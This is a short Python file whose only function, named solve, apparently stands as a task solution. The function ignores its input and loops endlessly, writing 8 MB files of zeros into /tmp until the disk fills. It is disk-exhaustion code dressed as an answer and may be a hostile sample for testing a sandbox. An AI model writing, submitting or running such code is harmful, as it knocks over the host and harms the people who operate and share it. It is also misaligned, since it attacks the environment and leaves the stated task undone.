import os


def solve(x):
    chunk = b"\0" * (1 << 20)
    i = 0
    while True:
        with open(f"/tmp/fill-{i}", "wb") as f:
            for _ in range(8):
                f.write(chunk)
        i += 1
